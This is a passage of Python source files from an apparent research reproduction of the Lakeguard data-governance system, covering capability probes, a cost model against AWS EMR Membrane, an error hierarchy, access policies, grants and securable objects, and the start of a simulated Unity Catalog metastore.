        "materialized_views": NO,
        "external_filtering": "BQ Storage API",
    },
}


@dataclass
class ProbeResult:
    """Outcome of one live capability probe (a Table 1 cell)."""

    feature: str
    value: str
    detail: str = ""


def _probe(fn: Callable[[], tuple[str, str]]) -> tuple[str, str]:
    try:
        return fn()
    except LakeguardError as exc:  # a failed probe is an honest "no"
        return NO, f"probe failed: {exc}"


def probe_lakeguard() -> dict[str, ProbeResult]:
    """Run live capability probes against this library."""
    from repro.platform import Workspace

    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_user("bob")
    ws.add_group("team", ["alice", "bob"])
    cat = ws.catalog
    cat.create_catalog("m", owner="admin")
    cat.create_schema("m.s", owner="admin")
    std = ws.create_standard_cluster()
    admin = std.connect("admin")
    admin.sql("CREATE TABLE m.s.t (id int, region string, v float)")
    admin.sql("INSERT INTO m.s.t VALUES (1,'US',1.0),(2,'EU',2.0)")
    for grant in (
        "GRANT USE CATALOG ON m TO team",
        "GRANT USE SCHEMA ON m.s TO team",
        "GRANT SELECT ON m.s.t TO team",
    ):
        admin.sql(grant)

    results: dict[str, ProbeResult] = {}

    def record(feature: str, fn: Callable[[], tuple[str, str]]) -> None:
        value, detail = _probe(fn)
        results[feature] = ProbeResult(feature, value, detail)

    def unified() -> tuple[str, str]:
        admin.sql("ALTER TABLE m.s.t SET ROW FILTER (region = 'US')")
        alice = std.connect("alice")
        sql_rows = alice.sql("SELECT id FROM m.s.t").collect()
        from repro.connect.client import col, udf

        @udf("float")
        def plus_one(x):
            return x + 1.0

        py_rows = alice.table("m.s.t").select(plus_one(col("v"))).collect()
        ok = len(sql_rows) == 1 and len(py_rows) == 1
        return (YES if ok else NO), f"sql={len(sql_rows)} rows, python={len(py_rows)} rows"

    record("unified_policies_dw_and_ds", unified)

    def catalog_udfs() -> tuple[str, str]:
        from repro.engine.udf import udf as engine_udf

        @engine_udf("float")
        def celsius(x):
            return (x - 32.0) * 5 / 9

        cat.create_function("m.s.to_celsius", celsius, owner="admin")
        cat.grant("EXECUTE", "m.s.to_celsius", "team")
        alice = std.connect("alice")
        from repro.connect.client import catalog_function, col

        rows = alice.table("m.s.t").select(
            catalog_function("m.s.to_celsius")(col("v"))
        ).collect()
        return ("Python" if rows else NO), f"{len(rows)} rows through catalog UDF"

    record("catalog_udfs", catalog_udfs)

    def languages() -> tuple[str, str]:
        # SQL and Python execute for real; Scala/R are representable only.
        return "SQL, Python (Scala, R representable)", "executed SQL + Python"

    record("single_user_languages", languages)

    def multi_user() -> tuple[str, str]:
        alice = std.connect("alice")
        bob = std.connect("bob")
        a = alice.sql("SELECT count(*) AS n FROM m.s.t").collect()
        b = bob.sql("SELECT count(*) AS n FROM m.s.t").collect()
        distinct_sessions = alice.session_id != bob.session_id
        ok = bool(a and b and distinct_sessions)
        return (
            ("SQL, Python (Scala, R representable)" if ok else NO),
            "two users shared one standard cluster",
        )

    record("multi_user_languages", multi_user)

    def row_filter() -> tuple[str, str]:
        alice = std.connect("alice")
        rows = alice.sql("SELECT region FROM m.s.t").collect()
        regions = {r[0] for r in rows}
        return (YES if regions == {"US"} else NO), f"visible regions: {regions}"

    record("row_filter", row_filter)

    def column_masks() -> tuple[str, str]:
        admin.sql(
            "ALTER TABLE m.s.t ALTER COLUMN region SET MASK "
            "(CASE WHEN is_account_group_member('admins') THEN region ELSE 'X' END)"
        )
        alice = std.connect("alice")
        rows = alice.sql("SELECT region FROM m.s.t").collect()
        masked = all(r[0] == "X" for r in rows)
        admin.sql("ALTER TABLE m.s.t ALTER COLUMN region DROP MASK")
        return (YES if masked else NO), f"masked values: {rows}"

    record("column_masks", column_masks)

    def views() -> tuple[str, str]:
        admin.sql("CREATE VIEW m.s.v AS SELECT id FROM m.s.t WHERE v > 0.5")
        admin.sql("GRANT SELECT ON m.s.v TO team")
        alice = std.connect("alice")
        rows = alice.table("m.s.v").collect()
        return (YES if rows else NO), f"{len(rows)} rows through view"

    record("views", views)

    def materialized_views() -> tuple[str, str]:
        admin.sql(
            "CREATE MATERIALIZED VIEW m.s.mv AS SELECT region, count(*) AS n "
            "FROM m.s.t GROUP BY region"
        )
        admin.sql("GRANT SELECT ON m.s.mv TO team")
        alice = std.connect("alice")
        rows = alice.table("m.s.mv").collect()
        return (YES if rows else NO), f"{len(rows)} rows from materialization"

    record("materialized_views", materialized_views)

    def external_filtering() -> tuple[str, str]:
        ded = ws.create_dedicated_cluster(assigned_user="alice", name="probe-ded")
        alice = ded.connect("alice")
        rows = alice.sql("SELECT id FROM m.s.t").collect()
        used_remote = (
            ded.backend.remote_executor is not None
            and ded.backend.remote_executor.stats.subqueries > 0
        )
        return (
            (YES if rows and used_remote else NO),
            f"{len(rows)} rows via eFGAC subquery",
        )

    record("external_filtering", external_filtering)

    return results


def render_matrix(lakeguard: dict[str, ProbeResult]) -> str:
    """ASCII rendition of Table 1 with the probed Lakeguard column."""
    platforms = ["Lakeguard (this repo)"] + list(PAPER_COMPETITORS)
    header = ["Property"] + platforms
    rows = []
    for feature in FEATURES:
        row = [FEATURE_LABELS[feature], lakeguard[feature].value]
        for competitor in PAPER_COMPETITORS.values():
            row.append(competitor[feature])
        rows.append(row)
    widths = [
        max(len(str(r[i])) for r in [header] + rows) for i in range(len(header))
    ]
    lines = [
        " | ".join(str(v).ljust(w) for v, w in zip(header, widths)),
        "-+-".join("-" * w for w in widths),
    ]
    for row in rows:
        lines.append(" | ".join(str(v).ljust(w) for v, w in zip(row, widths)))
    return "\n".join(lines)
