"""AWS EMR Membrane baseline (§7).

Membrane splits an Apache Spark cluster into two *static* security domains —
a trusted engine domain and a user-code domain — exchanging data via shuffle.
The paper's criticism, made measurable here:

1. the two domains "can never overlap due to potentially residual data",
   so capacity cannot shift with the workload mix → lower utilization;
2. the cluster remains single-user.

The model executes a sequence of workload phases (each with an engine-work
share and a user-code-work share) against (a) a statically split cluster and
(b) a Lakeguard-style shared cluster where sandboxes are colocated with the
engine, and reports makespan and utilization.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import ConfigurationError


@dataclass(frozen=True)
class WorkloadPhase:
    """One phase of a workload: node-seconds of work per domain."""

    engine_work: float
    udf_work: float

    @property
    def total(self) -> float:
        return self.engine_work + self.udf_work


@dataclass(frozen=True)
class PhaseOutcome:
    """Makespan and utilization of one workload phase on one model."""

    makespan: float
    utilization: float


@dataclass
class MembraneClusterModel:
    """Cost model of a cluster with a fixed engine/user-domain split."""

    total_nodes: int
    #: Nodes statically assigned to the user-code domain (Membrane only).
    user_domain_nodes: int
    #: Relative slowdown of sandboxed user code under Lakeguard (Table 2:
    #: ~1.05-1.10 depending on the UDF's compute density).
    lakeguard_isolation_overhead: float = 1.08
    #: Membrane exchanges data between domains via shuffle; charge a fixed
    #: relative cost on user-domain work for the extra materialization.
    membrane_shuffle_overhead: float = 1.05

    def __post_init__(self) -> None:
        if not 0 < self.user_domain_nodes < self.total_nodes:
            raise ConfigurationError(
                "user domain must hold between 1 and total_nodes-1 nodes"
            )

    # -- Membrane ---------------------------------------------------------------

    def membrane_phase(self, phase: WorkloadPhase) -> PhaseOutcome:
        """Both domains run concurrently; the slower one gates the phase."""
        engine_nodes = self.total_nodes - self.user_domain_nodes
        engine_time = phase.engine_work / engine_nodes
        udf_time = (
            phase.udf_work * self.membrane_shuffle_overhead / self.user_domain_nodes
        )
        makespan = max(engine_time, udf_time)
        used = phase.engine_work + phase.udf_work * self.membrane_shuffle_overhead
        capacity = makespan * self.total_nodes
        return PhaseOutcome(makespan, used / capacity if capacity else 0.0)

    def membrane_run(self, phases: list[WorkloadPhase]) -> PhaseOutcome:
        """Total makespan and utilization of a phase sequence on Membrane."""
        makespan = sum(self.membrane_phase(p).makespan for p in phases)
        used = sum(
            p.engine_work + p.udf_work * self.membrane_shuffle_overhead
            for p in phases
        )
        capacity = makespan * self.total_nodes
        return PhaseOutcome(makespan, used / capacity if capacity else 0.0)

    # -- Lakeguard ----------------------------------------------------------------

    def lakeguard_phase(self, phase: WorkloadPhase) -> PhaseOutcome:
        """Sandboxes are colocated: all nodes process whatever work exists."""
        work = (
            phase.engine_work
            + phase.udf_work * self.lakeguard_isolation_overhead
        )
        makespan = work / self.total_nodes
        return PhaseOutcome(makespan, 1.0)

    def lakeguard_run(self, phases: list[WorkloadPhase]) -> PhaseOutcome:
        makespan = sum(self.lakeguard_phase(p).makespan for p in phases)
        return PhaseOutcome(makespan, 1.0 if makespan else 0.0)

    # -- comparison -----------------------------------------------------------------

    def compare(self, phases: list[WorkloadPhase]) -> dict[str, PhaseOutcome]:
        return {
            "membrane": self.membrane_run(phases),
            "lakeguard": self.lakeguard_run(phases),
        }


def bursty_phases(
    num_phases: int, engine_heavy_work: float, udf_heavy_work: float
) -> list[WorkloadPhase]:
    """An alternating workload: exactly the 'highly variable' case in §7."""
    phases = []
    for i in range(num_phases):
        if i % 2 == 0:
            phases.append(WorkloadPhase(engine_work=engine_heavy_work, udf_work=0.0))
        else:
            phases.append(WorkloadPhase(engine_work=0.0, udf_work=udf_heavy_work))
    return phases
