"""Exception hierarchy for the Lakeguard reproduction.

Every error raised by the library derives from :class:`LakeguardError` so that
applications can catch library failures with a single ``except`` clause while
still being able to distinguish governance denials from engine bugs.
"""

from __future__ import annotations


class LakeguardError(Exception):
    """Base class for all errors raised by this library."""


class ConfigurationError(LakeguardError):
    """A component was configured inconsistently (programming error)."""


# ---------------------------------------------------------------------------
# Governance / catalog
# ---------------------------------------------------------------------------


class PermissionDenied(LakeguardError):
    """The acting principal lacks a required privilege on a securable."""

    def __init__(self, principal: str, privilege: str, securable: str):
        self.principal = principal
        self.privilege = privilege
        self.securable = securable
        super().__init__(
            f"Permission denied: principal '{principal}' lacks privilege "
            f"'{privilege}' on '{securable}'"
        )


class SecurableNotFound(LakeguardError):
    """A catalog object (table, view, function, ...) does not exist."""


class SecurableAlreadyExists(LakeguardError):
    """Attempted to create a catalog object that already exists."""


class PolicyError(LakeguardError):
    """A row filter or column mask definition is invalid."""


# ---------------------------------------------------------------------------
# Storage
# ---------------------------------------------------------------------------


class StorageError(LakeguardError):
    """Generic object-store failure."""


class StorageAccessDenied(StorageError):
    """An object-store operation was rejected by the prefix ACL or credential."""


class CredentialError(StorageError):
    """A temporary credential is invalid, expired, or out of scope."""


# ---------------------------------------------------------------------------
# Engine
# ---------------------------------------------------------------------------


class AnalysisError(LakeguardError):
    """Plan analysis failed: unresolved names, type errors, invalid plans."""


class ParseError(LakeguardError):
    """SQL text could not be parsed."""

    def __init__(self, message: str, position: int | None = None):
        self.position = position
        if position is not None:
            message = f"{message} (at position {position})"
        super().__init__(message)


class ExecutionError(LakeguardError):
    """A physical operator failed at runtime."""


class UnsupportedOperationError(LakeguardError):
    """The requested operation is valid Spark but outside this subset."""


# ---------------------------------------------------------------------------
# Workload management / overload behaviour
# ---------------------------------------------------------------------------


class RetryableError(LakeguardError):
    """A transient condition: the caller should retry after ``retry_after``.

    Carries a server-suggested backoff in seconds so clients (and the
    Connect error codec) can surface *when* a retry is worthwhile instead of
    hammering an overloaded component.
    """

    def __init__(self, message: str, retry_after: float = 0.0):
        self.retry_after = max(0.0, float(retry_after))
        super().__init__(message)


class AdmissionError(RetryableError):
    """The workload manager refused to admit a query right now.

    ``reason`` distinguishes backpressure ("queue_full"), rate limiting
    ("rate_limited"), load shedding ("shed"), admission-queue timeouts
    ("timeout"), up-front deadline rejection ("deadline"), and interrupts of
    still-queued operations ("cancelled").
    """

    def __init__(self, message: str, retry_after: float = 0.0, reason: str = ""):
        self.reason = reason
        super().__init__(message, retry_after=retry_after)


class CircuitOpenError(RetryableError):
    """A circuit breaker is open: the protected backend is failing fast."""


# ---------------------------------------------------------------------------
# Fault injection (chaos engine) + transient variants of layer errors
# ---------------------------------------------------------------------------


class FaultInjectedError(RetryableError):
    """Default error raised by a triggered fault point with no custom error.

    Retryable by design: an injected fault models a transient condition,
    and recovery layers are exactly what chaos schedules exercise.
    """


class TransientStorageError(StorageError, RetryableError):
    """A storage operation failed transiently (flaky GET, injected fault).

    Both a :class:`StorageError` (callers catching storage failures still
    see it) and a :class:`RetryableError` (recovery layers know a bounded
    retry is worthwhile).
    """


class CorruptObjectError(TransientStorageError):
    """An object's bytes failed to decode; a re-read may return good bytes."""


class TransientCredentialError(CredentialError, RetryableError):
    """A credential vend failed transiently; re-vending is worthwhile."""


# ---------------------------------------------------------------------------
# Transactions (governed write path)
# ---------------------------------------------------------------------------


class CommitConflictError(StorageError, RetryableError):
    """An atomic commit lost the race: the target log version exists.

    Raised by :meth:`~repro.storage.object_store.ObjectStore.put_if_absent`
    when another writer committed the same version first. Retryable by
    design: a blind append can rebase onto the new tip and recommit, and a
    read-dependent transaction can re-run its body against the fresh
    snapshot — both ride the bounded jittered-backoff retry ladder.
    """


class TransactionAbortedError(LakeguardError):
    """A multi-statement transaction was rolled back and cannot commit.

    Raised when commit is attempted on a transaction that already aborted
    (conflict retries exhausted, explicit rollback, or a mid-commit
    failure whose staged files were garbage-collected).
    """


class WriteDeniedError(LakeguardError):
    """A write statement was refused by fine-grained governance.

    Distinct from :class:`PermissionDenied` (which is about missing
    privileges): the principal *holds* MODIFY, but the statement touches
    policy-protected data — assigning to or reading a masked column from
    UPDATE/MERGE, for example — and the trusted write tier refuses it.
    """


# ---------------------------------------------------------------------------
# Spark Connect
# ---------------------------------------------------------------------------


class ProtocolError(LakeguardError):
    """Malformed or incompatible Spark Connect message."""


class VersionIncompatibleError(ProtocolError):
    """Client protocol version is newer than the server supports."""


class SessionError(LakeguardError):
    """Session not found, expired, or owned by a different user."""


class OperationGoneError(LakeguardError):
    """A query operation was abandoned and tombstoned by the service."""


class TransportError(LakeguardError):
    """The (simulated) network channel dropped the connection."""


# ---------------------------------------------------------------------------
# Sandbox / isolation
# ---------------------------------------------------------------------------


class SandboxError(LakeguardError):
    """Failure creating or communicating with a user-code sandbox."""


class SandboxDied(SandboxError):
    """The sandbox worker died under a request.

    ``delivered`` records whether the request had already reached the
    worker when it died. ``False`` means the UDF cannot have started, so a
    single re-invoke on a fresh sandbox preserves at-most-once semantics;
    ``True`` means the worker may have executed side effects mid-request,
    and a retry would risk running user code twice — callers must not.
    """

    def __init__(self, message: str, delivered: bool = True):
        self.delivered = delivered
        super().__init__(message)


class SandboxPolicyViolation(SandboxError):
    """User code attempted an operation forbidden by the sandbox policy."""


class EgressDenied(SandboxPolicyViolation):
    """User code attempted network egress to a non-allow-listed endpoint."""


class HostFilesystemDenied(SandboxPolicyViolation):
    """User code attempted to read the host filesystem through the broker."""


class TrustDomainViolation(SandboxError):
    """Code from different trust domains would have shared a sandbox."""


class UserCodeError(LakeguardError):
    """The user's UDF raised; carries the original traceback text."""

    def __init__(self, message: str, udf_name: str | None = None):
        self.udf_name = udf_name
        super().__init__(message)


# ---------------------------------------------------------------------------
# Platform
# ---------------------------------------------------------------------------


class ClusterError(LakeguardError):
    """Cluster lifecycle or attachment failure."""


class ClusterAttachDenied(ClusterError):
    """A user may not attach to this cluster (e.g. dedicated, other owner)."""
