"""Fine-grained access policies: row filters and column masks.

Policies are stored as *unbound* expression trees over the target table's
columns (plus the dynamic-view primitives ``CURRENT_USER()`` and
``IS_ACCOUNT_GROUP_MEMBER()``). The Lakeguard enforcement layer binds and
injects them under a ``SecureView`` during analysis — never at the storage
layer, which is object-granular (Fig. 3).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.engine.expressions import Expression, contains_user_code
from repro.engine.types import Schema
from repro.errors import PolicyError


@dataclass(frozen=True)
class RowFilter:
    """Rows are visible iff ``condition`` evaluates to TRUE for the user."""

    table: str
    condition: Expression
    created_by: str

    def validate(self, schema: Schema) -> None:
        _validate_policy_expression(self.condition, schema, "row filter")


@dataclass(frozen=True)
class ColumnMask:
    """Column values are replaced by ``mask`` (may reference other columns).

    A typical mask: ``CASE WHEN is_account_group_member('hr') THEN ssn
    ELSE '***' END``.
    """

    table: str
    column: str
    mask: Expression
    created_by: str

    def validate(self, schema: Schema) -> None:
        if not schema.contains(self.column):
            raise PolicyError(
                f"column mask targets unknown column '{self.column}' "
                f"of '{self.table}'"
            )
        _validate_policy_expression(self.mask, schema, "column mask")


def _validate_policy_expression(expr: Expression, schema: Schema, what: str) -> None:
    """Policies must be trusted: engine expressions only, no user code."""
    if contains_user_code(expr):
        raise PolicyError(
            f"{what} must not contain user code (Python UDFs); policies are "
            "evaluated inside the trusted engine"
        )
    from repro.engine.expressions import UnresolvedColumn

    for node in expr.walk():
        if isinstance(node, UnresolvedColumn) and not schema.contains(node.name):
            raise PolicyError(
                f"{what} references unknown column '{node.name}'; "
                f"table columns: {schema.names}"
            )
