"""Principals, privileges and grants.

The model follows Unity Catalog: privileges are granted on securables to
principals (users or groups); access to a table additionally requires
``USE CATALOG`` and ``USE SCHEMA`` on its ancestors; owners implicitly hold
all privileges on their objects; metastore admins hold all privileges
everywhere.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.errors import ConfigurationError, SecurableNotFound

# -- privilege names ----------------------------------------------------------

USE_CATALOG = "USE_CATALOG"
USE_SCHEMA = "USE_SCHEMA"
SELECT = "SELECT"
MODIFY = "MODIFY"
EXECUTE = "EXECUTE"
CREATE_TABLE = "CREATE_TABLE"
CREATE_SCHEMA = "CREATE_SCHEMA"
CREATE_FUNCTION = "CREATE_FUNCTION"
READ_VOLUME = "READ_VOLUME"
WRITE_VOLUME = "WRITE_VOLUME"
MANAGE = "MANAGE"

ALL_PRIVILEGES = frozenset(
    {
        USE_CATALOG,
        USE_SCHEMA,
        SELECT,
        MODIFY,
        EXECUTE,
        CREATE_TABLE,
        CREATE_SCHEMA,
        CREATE_FUNCTION,
        READ_VOLUME,
        WRITE_VOLUME,
        MANAGE,
    }
)


@dataclass(frozen=True)
class UserContext:
    """The acting identity of a request: user plus resolved group closure.

    Group down-scoping on shared dedicated clusters (§4.2) is expressed by
    :meth:`down_scoped_to`: the original user identity is retained (for
    auditing) while the *effective principals* collapse to exactly the group.
    """

    user: str
    groups: frozenset[str] = frozenset()
    #: When set, permission checks use only these principals instead of
    #: {user} | groups. Used for group down-scoping.
    effective_principals: frozenset[str] | None = None

    def principals(self) -> frozenset[str]:
        if self.effective_principals is not None:
            return self.effective_principals
        return frozenset({self.user}) | self.groups

    def down_scoped_to(self, group: str) -> "UserContext":
        """Reduce permissions to exactly ``group`` while keeping identity."""
        return UserContext(
            user=self.user,
            groups=self.groups,
            effective_principals=frozenset({group}),
        )

    @property
    def is_down_scoped(self) -> bool:
        return self.effective_principals is not None


class PrincipalDirectory:
    """Users, groups and (possibly nested) group membership."""

    def __init__(self) -> None:
        self._users: set[str] = set()
        self._groups: dict[str, set[str]] = {}
        self._admins: set[str] = set()

    # -- management ---------------------------------------------------------------

    def add_user(self, name: str, admin: bool = False) -> None:
        self._users.add(name)
        if admin:
            self._admins.add(name)

    def add_group(self, name: str, members: list[str] | None = None) -> None:
        self._groups.setdefault(name, set()).update(members or [])

    def add_member(self, group: str, member: str) -> None:
        if group not in self._groups:
            raise SecurableNotFound(f"group '{group}' does not exist")
        self._groups[group].add(member)

    def remove_member(self, group: str, member: str) -> None:
        self._groups.get(group, set()).discard(member)

    # -- queries -----------------------------------------------------------------

    def is_user(self, name: str) -> bool:
        return name in self._users

    def is_group(self, name: str) -> bool:
        return name in self._groups

    def is_admin(self, user: str) -> bool:
        return user in self._admins

    def groups_of(self, user: str) -> frozenset[str]:
        """Transitive closure of group membership for a user."""
        direct = {g for g, members in self._groups.items() if user in members}
        closed = set(direct)
        frontier = list(direct)
        while frontier:
            current = frontier.pop()
            for g, members in self._groups.items():
                if current in members and g not in closed:
                    closed.add(g)
                    frontier.append(g)
        return frozenset(closed)

    def context_for(self, user: str) -> UserContext:
        if not self.is_user(user):
            raise SecurableNotFound(f"user '{user}' does not exist")
        return UserContext(user=user, groups=self.groups_of(user))


@dataclass(frozen=True)
class Grant:
    """One (privilege, securable, principal) triple."""

    privilege: str
    securable: str
    principal: str


@dataclass
class PrivilegeStore:
    """Grant storage and lookup (no hierarchy logic — the metastore owns it)."""

    _grants: set[Grant] = field(default_factory=set)

    def grant(self, privilege: str, securable: str, principal: str) -> None:
        if privilege not in ALL_PRIVILEGES:
            raise ConfigurationError(
                f"unknown privilege '{privilege}'; one of {sorted(ALL_PRIVILEGES)}"
            )
        self._grants.add(Grant(privilege, securable, principal))

    def revoke(self, privilege: str, securable: str, principal: str) -> None:
        self._grants.discard(Grant(privilege, securable, principal))

    def has(self, privilege: str, securable: str, principals: frozenset[str]) -> bool:
        return any(
            Grant(privilege, securable, p) in self._grants for p in principals
        ) or any(Grant(MANAGE, securable, p) in self._grants for p in principals)

    def grants_on(self, securable: str) -> list[Grant]:
        return sorted(
            (g for g in self._grants if g.securable == securable),
            key=lambda g: (g.principal, g.privilege),
        )

    def grants_for(self, principal: str) -> list[Grant]:
        return sorted(
            (g for g in self._grants if g.principal == principal),
            key=lambda g: (g.securable, g.privilege),
        )
