"""Securable objects in the three-level namespace.

``catalog.schema.object`` — tables, views, materialized views, functions
(cataloged UDFs) and volumes (governed storage paths). Every securable has
an owner; ownership implies all privileges on the object.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from repro.engine.types import Schema
from repro.engine.udf import PythonUDF
from repro.errors import SecurableNotFound

TABLE = "TABLE"
VIEW = "VIEW"
MATERIALIZED_VIEW = "MATERIALIZED_VIEW"
FUNCTION = "FUNCTION"
VOLUME = "VOLUME"


def split_name(full_name: str) -> tuple[str, str, str]:
    """Split ``cat.schema.object`` into its three parts."""
    parts = full_name.split(".")
    if len(parts) != 3:
        raise SecurableNotFound(
            f"'{full_name}' is not a fully qualified three-level name "
            "(expected catalog.schema.object)"
        )
    return parts[0], parts[1], parts[2]


@dataclass
class TableObject:
    """A managed or external table backed by versioned cloud storage."""

    full_name: str
    schema: Schema
    storage_root: str
    owner: str
    comment: str = ""
    properties: dict[str, Any] = field(default_factory=dict)

    kind: str = TABLE


@dataclass
class ViewObject:
    """A (dynamic) view: SQL text evaluated with the definer's policies.

    Views are *dynamic* when their text uses ``CURRENT_USER()`` or
    ``IS_ACCOUNT_GROUP_MEMBER()`` — the same definition yields different
    rows per querying user.
    """

    full_name: str
    sql_text: str
    owner: str
    comment: str = ""

    kind: str = VIEW


@dataclass
class MaterializedViewObject:
    """A view whose results are precomputed into managed storage.

    ``materialized_root`` holds the refreshed data; ``stale`` tracks whether
    the sources changed since the last refresh (the replica-cost baseline
    measures exactly this effect at scale).
    """

    full_name: str
    sql_text: str
    owner: str
    materialized_root: str
    schema: Schema | None = None
    refreshed_at_version: dict[str, int] = field(default_factory=dict)
    stale: bool = True
    comment: str = ""

    kind: str = MATERIALIZED_VIEW


@dataclass
class FunctionObject:
    """A cataloged UDF (§3.3): reusable, governed user code.

    The trust domain of a cataloged function is its *owner*, not the caller:
    two users' functions never share a sandbox even within one query.
    """

    full_name: str
    udf: PythonUDF
    owner: str
    comment: str = ""

    kind: str = FUNCTION

    def resolved_udf(self) -> PythonUDF:
        """The UDF stamped with its catalog identity and owner trust domain."""
        return self.udf.as_cataloged(self.owner)


@dataclass
class VolumeObject:
    """A governed storage location for non-tabular files."""

    full_name: str
    storage_root: str
    owner: str
    comment: str = ""

    kind: str = VOLUME


Securable = TableObject | ViewObject | MaterializedViewObject | FunctionObject | VolumeObject


@dataclass
class SchemaObject:
    """Second namespace level; holds securables by bare name."""

    full_name: str  # catalog.schema
    owner: str
    objects: dict[str, Securable] = field(default_factory=dict)
    comment: str = ""


@dataclass
class CatalogObject:
    """Top namespace level; holds schemas by bare name."""

    name: str
    owner: str
    schemas: dict[str, SchemaObject] = field(default_factory=dict)
    comment: str = ""
