"""Unity Catalog simulator: the central governance layer (§3.1).

Everything Lakeguard enforces is *defined* here — securables in a
three-level namespace, user/group principals, grants with ownership,
row filters, column masks, dynamic views, cataloged Python UDFs, privilege
scopes per compute type, and temporary credential vending.
"""

from repro.catalog.privileges import (
    ALL_PRIVILEGES,
    EXECUTE,
    MANAGE,
    MODIFY,
    SELECT,
    USE_CATALOG,
    USE_SCHEMA,
    PrincipalDirectory,
    UserContext,
)
from repro.catalog.securables import (
    CatalogObject,
    FunctionObject,
    SchemaObject,
    TableObject,
    ViewObject,
    VolumeObject,
)
from repro.catalog.policies import ColumnMask, RowFilter
from repro.catalog.scopes import (
    COMPUTE_DEDICATED,
    COMPUTE_EXTERNAL,
    COMPUTE_SERVERLESS,
    COMPUTE_STANDARD,
    ComputeCapabilities,
)
from repro.catalog.metastore import UnityCatalog

__all__ = [
    "ALL_PRIVILEGES",
    "EXECUTE",
    "MANAGE",
    "MODIFY",
    "SELECT",
    "USE_CATALOG",
    "USE_SCHEMA",
    "PrincipalDirectory",
    "UserContext",
    "CatalogObject",
    "SchemaObject",
    "TableObject",
    "ViewObject",
    "FunctionObject",
    "VolumeObject",
    "RowFilter",
    "ColumnMask",
    "ComputeCapabilities",
    "COMPUTE_STANDARD",
    "COMPUTE_DEDICATED",
    "COMPUTE_SERVERLESS",
    "COMPUTE_EXTERNAL",
    "UnityCatalog",
]
