"""Privilege scopes: what a compute type may be trusted to enforce (§3.4, §4).

Unity Catalog tracks "the security and execution properties of each cluster
... through privilege scopes": a Standard (sandboxed, multi-user) cluster may
receive policy details and enforce FGAC locally; a Dedicated (privileged)
cluster may only learn that a relation exists and must route it through
external FGAC; an external engine (Trino, other Spark distros) likewise.
"""

from __future__ import annotations

from dataclasses import dataclass

COMPUTE_STANDARD = "STANDARD"
COMPUTE_DEDICATED = "DEDICATED"
COMPUTE_SERVERLESS = "SERVERLESS"
COMPUTE_EXTERNAL = "EXTERNAL"

_KNOWN = (COMPUTE_STANDARD, COMPUTE_DEDICATED, COMPUTE_SERVERLESS, COMPUTE_EXTERNAL)


@dataclass(frozen=True)
class ComputeCapabilities:
    """Security posture of the compute making catalog requests."""

    compute_id: str
    compute_type: str

    def __post_init__(self) -> None:
        if self.compute_type not in _KNOWN:
            raise ValueError(
                f"unknown compute type '{self.compute_type}'; one of {_KNOWN}"
            )

    @property
    def isolates_user_code(self) -> bool:
        """Can this compute keep user code away from engine state?"""
        return self.compute_type in (COMPUTE_STANDARD, COMPUTE_SERVERLESS)

    @property
    def can_enforce_fgac_locally(self) -> bool:
        """FGAC details (filter/mask expressions) may be shared only with
        compute that isolates user code; otherwise a UDF could read them
        or the pre-filter rows from engine memory (§2.3-2.4)."""
        return self.isolates_user_code

    @property
    def privileged_machine_access(self) -> bool:
        return self.compute_type in (COMPUTE_DEDICATED, COMPUTE_EXTERNAL)


#: Annotation the catalog attaches to relation metadata it returns to
#: privileged compute: "this object cannot be processed locally" (§3.4).
ANNOTATION_REQUIRES_EXTERNAL_FGAC = "requires_external_fgac"


def requires_external_fgac(has_policies: bool, caps: ComputeCapabilities) -> bool:
    """Decide whether a governed relation must be processed externally."""
    return has_policies and not caps.can_enforce_fgac_locally
