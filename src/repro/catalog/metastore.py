"""The Unity Catalog facade.

One object owns the governance state of the whole platform: namespace,
principals, grants, policies, and the credential vendor. Every decision is
audited. Compute talks to the catalog through two entry points:

- :meth:`relation_metadata` — resolve a name for a given user *and compute
  capability*; policy details are only disclosed to compute that can enforce
  them, otherwise the metadata is annotated ``requires_external_fgac``.
- :meth:`vend_credential` — exchange (identity, table, operation) for a
  temporary storage credential, refused outright when the compute must not
  touch the raw bytes.
"""

from __future__ import annotations

import threading
from dataclasses import dataclass
from typing import Any, Callable

from repro.catalog.abac import TagStore
from repro.catalog.policies import ColumnMask, RowFilter
from repro.catalog.privileges import (
    MANAGE,
    MODIFY,
    PrincipalDirectory,
    PrivilegeStore,
    SELECT,
    USE_CATALOG,
    USE_SCHEMA,
    UserContext,
)
from repro.catalog.scopes import (
    ANNOTATION_REQUIRES_EXTERNAL_FGAC,
    ComputeCapabilities,
    requires_external_fgac,
)
from repro.catalog.securables import (
    CatalogObject,
    FunctionObject,
    MaterializedViewObject,
    SchemaObject,
    Securable,
    TableObject,
    ViewObject,
    VolumeObject,
    split_name,
)
from repro.common.audit import AuditLog
from repro.common.faults import FaultInjector
from repro.common.telemetry import Telemetry
from repro.common.clock import Clock, SystemClock
from repro.engine.logical import TableRef
from repro.engine.types import Schema
from repro.engine.udf import PythonUDF
from repro.errors import (
    PermissionDenied,
    SecurableAlreadyExists,
    SecurableNotFound,
)
from repro.storage.credentials import (
    CredentialVendor,
    DELETE,
    InstanceProfileCredential,
    LIST,
    READ,
    TemporaryCredential,
    WRITE,
)
from repro.storage.object_store import ObjectStore
from repro.storage.table_format import LakeTableStorage

#: Root prefix under which managed tables live.
MANAGED_ROOT = "s3://unity-managed"


@dataclass
class RelationMetadata:
    """What the catalog discloses about a relation to a given compute."""

    kind: str
    full_name: str
    owner: str
    schema: Schema | None = None
    storage_root: str | None = None
    view_text: str | None = None
    annotations: frozenset[str] = frozenset()
    row_filter: RowFilter | None = None
    column_masks: tuple[ColumnMask, ...] = ()
    #: Materialized views: where the refreshed data lives.
    materialized_root: str | None = None
    materialized_stale: bool = False

    @property
    def has_policies(self) -> bool:
        return self.row_filter is not None or bool(self.column_masks)


class UnityCatalog:
    """In-memory Unity Catalog with storage-backed managed tables."""

    def __init__(
        self,
        store: ObjectStore | None = None,
        clock: Clock | None = None,
        audit: AuditLog | None = None,
        telemetry: Telemetry | None = None,
    ):
        self.clock = clock or SystemClock()
        self.audit = audit or AuditLog()
        #: Tracing/metrics spine shared by every component of this deployment.
        self.telemetry = (
            telemetry if telemetry is not None else Telemetry(clock=self.clock)
        )
        #: The deployment-wide chaos engine. Storage, credential vending,
        #: sandboxes, channels and the serverless gateway all consult this
        #: one injector, so a test (or the CI chaos job, via the
